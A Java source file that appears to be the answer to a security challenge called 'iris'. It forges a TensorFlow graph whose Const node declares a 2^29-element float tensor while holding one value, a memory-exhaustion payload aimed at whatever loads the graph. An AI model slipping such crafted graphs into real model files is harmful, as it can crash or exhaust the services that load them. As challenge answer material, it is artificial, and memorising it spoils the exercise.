import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.GraphDef;
import org.tensorflow.proto.TensorProto;
import org.tensorflow.proto.TensorShapeProto;

@dev.assay.problems.Answers("iris")
class Answer extends Forgery {
  @Override
  void forge(GraphDef.Builder graph) throws Exception {
    TensorShapeProto.Builder shape = TensorShapeProto.newBuilder();
    shape.addDimBuilder().setSize(1L << 29);
    TensorProto.Builder one =
        TensorProto.newBuilder().setDtype(DataType.DT_FLOAT).setTensorShape(shape).addFloatVal(1);
    graph
        .addNodeBuilder()
        .setName("huge")
        .setOp("Const")
        .putAttr("dtype", AttrValue.newBuilder().setType(DataType.DT_FLOAT).build())
        .putAttr("value", AttrValue.newBuilder().setTensor(one).build());
  }
}
